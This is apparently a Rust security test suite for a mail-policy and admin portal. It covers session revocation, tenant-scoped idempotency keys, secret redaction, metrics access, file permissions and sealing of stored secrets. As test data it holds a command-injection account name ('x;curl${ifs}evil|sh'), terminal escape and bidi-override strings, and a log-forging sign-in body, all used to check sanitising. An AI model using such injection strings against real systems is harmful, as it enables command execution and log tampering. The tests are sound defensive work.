//! What somebody tries who wants in, or wants to know what is not theirs: over HTTP, on the file system.

mod visitor;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::json;

use crate::harness::http::{call, exchange};
use crate::harness::postern::{Postern, with_config};
use crate::harness::wait_for;
use visitor::Visitor;

const PASSWORD: &str = "correct horse battery staple";

fn signed_up(postern: &Postern, address: &str, role: &str) -> Visitor {
    let link = postern.ok(&["person", "invite", address, "--role", role]);
    let mut visitor = Visitor::new(postern.portal_port);
    visitor.sign_up(&link, PASSWORD);
    assert!(visitor.is_in());
    visitor
}

fn rows(postern: &Postern, table: &str) -> i64 {
    let database = rusqlite::Connection::open(postern.data().join("postern.db")).unwrap();
    database.query_row(&format!("SELECT count(*) FROM {table}"), [], |row| row.get(0)).unwrap()
}

#[test]
fn a_session_that_has_ended_does_not_come_back() {
    let postern = Postern::start("");
    let mut ann = signed_up(&postern, "ann@example.com", "security-reader");
    for round in 0..20 {
        // A sign-in that is held open with the cookie of the session while an admin ends it.
        let held = ann.hold_post("/sign-in", "address=ann@example.com&password=wrong");
        let reads = std::thread::spawn({
            let mut ann = ann.clone();
            move || (0..20).for_each(|_| drop(ann.get("/")))
        });
        let sessions = postern.json(&["session"]);
        assert_eq!(sessions.as_array().unwrap().len(), 1, "round {round}: {sessions}");
        postern.ok(&["session", "end", sessions[0]["id"].as_str().unwrap()]);
        let answer = ann.receive(held);
        reads.join().unwrap();
        assert!(matches!(answer.status, 401 | 429), "{}", answer.status);
        assert_eq!((ann.is_in(), postern.json(&["session"])), (false, json!([])), "round {round}");
        // The honest use beside it: signing in goes on working, since the device is known and the password right.
        let answer = ann.post("/sign-in", &format!("address=ann@example.com&password={}", PASSWORD.replace(' ', "+")));
        assert_eq!((answer.status, ann.is_in()), (303, true), "{}", answer.body);
    }
}

#[test]
fn strangers_leave_nothing_in_the_store() {
    let postern = Postern::start("");
    let before = rows(&postern, "sessions");
    for _ in 0..50 {
        let mut stranger = Visitor::new(postern.portal_port);
        stranger.get("/sign-in");
        let begun = stranger.post("/sign-in/passkey/begin", "");
        assert_eq!(begun.status, 200, "{}", begun.body);
        assert!(stranger.cookies.contains_key("postern-passkey"));
    }
    assert_eq!(rows(&postern, "sessions"), before);
}

#[test]
fn a_key_that_was_used_by_one_token_is_of_no_use_to_another() {
    let postern = Postern::start("");
    postern.ok(&["organization", "add", "contoso", "--domain", "contoso.example"]);
    postern.ok(&["organization", "add", "fabrikam", "--domain", "fabrikam.example"]);
    let token = |organization: &str| {
        let arguments = ["--organization", organization, "token", "add", "script", "--role", "security-administrator"];
        postern.ok(&arguments).trim().to_owned()
    };
    let (contoso, fabrikam) = (token("contoso"), token("fabrikam"));
    let restrict = |token: &str, entity: &str, more: &[(&str, &str)]| {
        let headers: Vec<_> = [("Idempotency-Key", "k1")].into_iter().chain(more.iter().copied()).collect();
        let body = json!({ "entity": entity, "reason": "phished" });
        let (status, head, body) =
            exchange(postern.portal_port, "POST", "/api/v1/restrictions", Some(token), Some(&body), &headers);
        (status, head.contains("idempotency-replayed"), body)
    };
    let first = restrict(&contoso, "info@contoso.example", &[]);
    assert_eq!((first.0, first.1), (201, false));
    // The same name, the same key, the same request: a different token.
    let theirs = restrict(&fabrikam, "info@contoso.example", &[]);
    assert_eq!((theirs.0, theirs.1), (404, false), "{}", theirs.2);
    let again = restrict(&contoso, "info@contoso.example", &[]);
    assert_eq!((again.0, again.1, &again.2), (201, true, &first.2));
    // A token that takes the name of a revoked one is another.
    postern.ok(&["--organization", "contoso", "token", "revoke", "script"]);
    assert_eq!(restrict(&token("contoso"), "info@contoso.example", &[]).0, 409);
    // A provider's repeat for another organization is another request.
    let provider = postern.ok(&["token", "add", "provider", "--role", "security-administrator"]);
    for organization in ["contoso", "fabrikam"] {
        let made = restrict(provider.trim(), "sales", &[("Postern-Organization", organization)]);
        let entity = json!(format!("sales@{organization}.example"));
        assert_eq!((made.0, made.1, &made.2["entity"]), (201, false, &entity), "{}", made.2);
    }
}

#[test]
fn a_refused_setting_tells_no_secret() {
    let mut postern = Postern::start("");
    let token = postern.ok(&["token", "add", "monitoring", "--role", "security-reader"]);
    let port = postern.portal_port;
    let status = || call(port, "GET", "/api/v1/status", Some(token.trim()), None).1;
    let webhook =
        "[[webhook]]\nname = \"chat\"\nurl = \"htps://hooks.example.com/services/hunter2\"\nformat = \"slack\"\n";
    let cases = [
        "[[directory]]\nname = \"mail\"\nurl = \"postgresq://reader:hunter2@127.0.0.1/mail\"\n",
        "[[directory]]\nname = \"mail\"\nurl = \"postgresq:hunter2\"\n",
        webhook,
        "[smtp]\npassword = \"hunter2\"\n",
        "[smtp]\nusername = \"u\"\npassword_file = \"hunter2\"\n",
        "[single_sign_on]\nclient_secret = \"hunter2\"\n",
        "[smtp]\npassword = hunter2\n",
    ];
    for (round, wrong) in cases.into_iter().enumerate() {
        postern.configure(wrong);
        let checked = with_config(&postern.config(), &["config", "check"]);
        let said = [checked.stdout, checked.stderr].concat();
        let said = String::from_utf8_lossy(&said);
        assert!(!checked.status.success() && !said.contains("hunter2"), "{wrong}: {said}");
        postern.process().signal("HUP");
        wait_for("the refusal", || postern.log().matches("configuration").count() > round);
        wait_for("its state", || status()["problems"].as_array().is_some_and(|all| !all.is_empty()));
        let ready = postern.http("/readyz").unwrap();
        assert!(ready.ends_with("\r\n\r\nconfiguration: failed\n"), "{ready}");
        let status = status().to_string();
        assert!(!status.contains("hunter2") && !postern.log().contains("hunter2"), "{wrong}: {status}");
    }
}

#[test]
fn metrics_are_for_monitoring_and_answers_are_not_stored() {
    let postern = Postern::start("");
    let token = postern.ok(&["token", "add", "prometheus", "--role", "security-reader"]);
    let status = |token: Option<&str>, headers: &[(&str, &str)]| {
        let mut visitor = std::net::TcpStream::connect(("127.0.0.1", postern.portal_port)).unwrap();
        let mut request = "GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n".to_owned();
        request += &token.map(|token| format!("Authorization: Bearer {token}\r\n")).unwrap_or_default();
        headers.iter().for_each(|(name, value)| request += &format!("{name}: {value}\r\n"));
        std::io::Write::write_all(&mut visitor, format!("{request}\r\n").as_bytes()).unwrap();
        let answer = std::io::read_to_string(visitor).unwrap();
        answer.split(' ').nth(1).unwrap().to_owned()
    };
    assert_eq!(status(None, &[]), "200", "from loopback");
    // Somebody from elsewhere, through a reverse proxy that nobody has named.
    assert_eq!(status(None, &[("X-Forwarded-For", "198.51.100.1")]), "401");
    assert_eq!(status(None, &[("Forwarded", "for=198.51.100.1")]), "401");
    assert_eq!(status(Some(token.trim()), &[("X-Forwarded-For", "198.51.100.1")]), "200");
    assert_eq!(status(Some("postern_nonsense"), &[]), "401");
    let (_, head, _) = exchange(postern.portal_port, "GET", "/api/v1/me", Some(token.trim()), None, &[]);
    for header in ["cache-control: no-store", "x-content-type-options: nosniff", "content-security-policy: default-src"]
    {
        assert!(head.contains(header), "{header} is not in:\n{head}");
    }
    let mut named = Postern::configured("");
    named.configure("");
    let text = std::fs::read_to_string(named.config()).unwrap();
    let text = text
        .replace("[portal]\n", "[portal]\nmetrics_networks = [\"192.0.2.0/24\"]\ntrusted_proxies = [\"127.0.0.1\"]\n");
    std::fs::write(named.config(), text).unwrap();
    named.run();
    assert_eq!(call(named.portal_port, "GET", "/metrics", None, None).0, 401);
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[test]
fn nobody_else_can_look_into_the_data_folder() {
    let mut postern = Postern::configured("");
    // A folder that was there, open to everybody.
    std::fs::create_dir(postern.data()).unwrap();
    std::fs::set_permissions(postern.data(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(postern.data().join("postern.db"), "").unwrap();
    std::fs::set_permissions(postern.data().join("postern.db"), std::fs::Permissions::from_mode(0o644)).unwrap();
    postern.run();
    assert_eq!(mode(&postern.data()), 0o700);
    let mut files = 0;
    for folder in [postern.data(), postern.data().join("usage")] {
        for entry in std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap()) {
            if entry.file_type().unwrap().is_file() {
                files += 1;
                assert_eq!(mode(&entry.path()), 0o600, "{}", entry.path().display());
            }
        }
    }
    assert!(files >= 4, "{files} files");
}

#[test]
fn the_portal_s_address_is_protected() {
    let mut postern = Postern::configured("");
    let with = |more: &str| {
        let text = std::fs::read_to_string(postern.config()).unwrap();
        let text = text.replace("[portal]\n", &format!("[portal]\n{more}\n"));
        let path = postern.folder.path().join("other.toml");
        std::fs::write(&path, text).unwrap();
        let checked = with_config(&path, &["config", "check"]);
        (checked.status.success(), String::from_utf8_lossy(&[checked.stdout, checked.stderr].concat()).into_owned())
    };
    let (fine, said) = with("url = \"http://postern.example.com\"");
    assert!(!fine && said.contains("insecure_http"), "{said}");
    for url in ["https://postern.example.com", "http://localhost:8040", "http://127.0.0.1:8040", "http://[::1]:8040"] {
        assert!(with(&format!("url = \"{url}\"")).0, "{url}");
    }
    assert!(with("url = \"http://postern.example.com\"\ninsecure_http = true").0);
    postern.run();
}

/// A sender that clears the screen, sets the window's title and turns the direction of what follows.
const NASTY: &str = "\"\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}\"@example.com";

fn has_unseen(text: &str) -> bool {
    text.chars().any(|c| c != '\n' && (c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c)))
}

#[test]
fn what_strangers_write_moves_no_cursor_and_forges_no_line() {
    let postern = Postern::start("[outbound_policy]\nexternal_per_hour = 1\n[log]\nlevel = \"debug\"\n");
    let ask = |instance: &str, login: &str| {
        let mut door = postern.door();
        let request = format!(
            "request=smtpd_access_policy\nprotocol_state=RCPT\ninstance={instance}\nsender={NASTY}\nhelo_name={NASTY}\n\
             recipient=someone@example.net\nsasl_username={login}\n\n"
        );
        door.send(request.as_bytes());
        door.receive().unwrap()
    };
    let account = "x;curl${ifs}evil|sh\u{1b}[2J@example.com";
    assert_eq!(ask("1", account), "DUNNO");
    let refused = ask("2", account);
    assert!(refused.starts_with("550") && !has_unseen(&refused), "{refused:?}");
    let shown = postern.json(&["restricted"]);
    let entity = shown[0]["entity"].as_str().unwrap();
    assert!(has_unseen(entity), "programs get it as it is: {entity:?}");
    let reference = shown[0]["reference"].as_str().unwrap();
    let commands: [&[&str]; 8] = [
        &["restricted"],
        &["alerts"],
        &["audit"],
        &["explain", reference],
        &["restricted", "show", entity],
        &["usage", entity],
        &["usage", "nobody\u{1b}[2J@example.com"],
        &["--json", "restricted"],
    ];
    for command in commands {
        let output = postern.cli(command);
        let said = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
        assert!(!said.is_empty() && !has_unseen(&said), "{command:?}: {said:?}");
    }
    // A failed sign-in and a provider's answer are logged in one line each.
    let mut stranger = Visitor::new(postern.portal_port);
    stranger.post("/sign-in", "address=%1b%5b2J%0aforged%3a+line%e2%80%ae&password=x");
    wait_for("the log", || postern.log().contains("sign-in failed"));
    assert!(!has_unseen(&postern.log()), "{}", postern.log());
    assert!(!postern.log().lines().any(|line| line.starts_with("forged")), "{}", postern.log());
    // The command in the alert's mail is one command.
    let database = rusqlite::Connection::open(postern.data().join("postern.db")).unwrap();
    let mail: Vec<u8> = database
        .query_row("SELECT message FROM outbox WHERE recipient = 'admin@example.com'", [], |row| row.get(0))
        .unwrap();
    let mail = String::from_utf8_lossy(&mail).replace("=\r\n", "").replace("=3D", "=");
    assert!(mail.contains("postern restricted release 'x;curl${ifs}evil|sh\\u{1b}[2j@example.com' --reason"), "{mail}");
}

#[test]
fn a_copy_of_the_database_holds_no_secret_of_an_authenticator_or_link() {
    let mut postern = Postern::configured("");
    let key = |name: &str, four: &str| {
        let path = postern.folder.path().join(name);
        // 32 bytes in base64.
        std::fs::write(&path, format!("{}{}=\n", four.repeat(10), &four[..3])).unwrap();
        format!("\"file:{}\"", path.display())
    };
    let (old, new) = (key("old", "AQEB"), key("new", "AgIC"));
    let stored = |postern: &Postern| {
        let database = rusqlite::Connection::open(postern.data().join("postern.db")).unwrap();
        let all = "SELECT value FROM keys UNION ALL SELECT totp_secret FROM people WHERE totp_secret IS NOT NULL";
        let mut statement = database.prepare(all).unwrap();
        let values = statement.query_map([], |row| row.get::<_, Vec<u8>>(0)).unwrap();
        values.collect::<Result<Vec<_>, _>>().unwrap()
    };
    // Without a key, as before; with one, sealed from the next start on.
    postern.run();
    signed_up(&postern, "ann@example.com", "security-reader");
    let database = rusqlite::Connection::open(postern.data().join("postern.db")).unwrap();
    database
        .execute("UPDATE people SET totp_secret = ?1, totp_step = 0", [b"an authenticator's 20".as_slice()])
        .unwrap();
    drop(database);
    let plain = stored(&postern);
    assert!(plain.len() == 3 && plain.iter().all(|value| !value.starts_with(b"sealed:")));
    let restart = |postern: &mut Postern, keys: &str| {
        postern.kill_9();
        postern.configure(&format!("[secrets]\nkeys = [{keys}]\n"));
        postern.run();
    };
    restart(&mut postern, &old);
    let sealed = stored(&postern);
    assert!(sealed.iter().all(|value| value.starts_with(b"sealed:")), "{sealed:?}");
    // Rotation: the new key first; afterwards, the old one is not needed.
    restart(&mut postern, &format!("{new}, {old}"));
    let rotated = stored(&postern);
    assert!(rotated.iter().all(|value| value.starts_with(b"sealed:") && !sealed.contains(value)));
    restart(&mut postern, &new);
    assert_eq!(stored(&postern), rotated);
    // Without the right key, it says so and does not start.
    postern.kill_9();
    postern.configure("");
    let output = with_config(&postern.config(), &["serve"]);
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(!output.status.success() && said.contains("secrets.keys"), "{said}");
}
